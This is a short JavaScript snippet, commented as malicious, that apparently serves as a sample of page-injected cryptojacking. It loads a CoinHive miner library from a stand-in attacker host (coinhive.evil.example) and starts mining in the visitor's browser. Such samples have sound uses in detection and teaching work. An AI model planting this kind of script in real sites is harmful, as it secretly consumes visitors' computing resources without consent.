// malicious: miner in a page
const s = document.createElement('script');
s.src = 'https://coinhive.evil.example/lib/coinhive.min.js';
document.head.appendChild(s);
s.onload = () => new CoinHive.Anonymous('site-key', { throttle: 0.1 }).start();
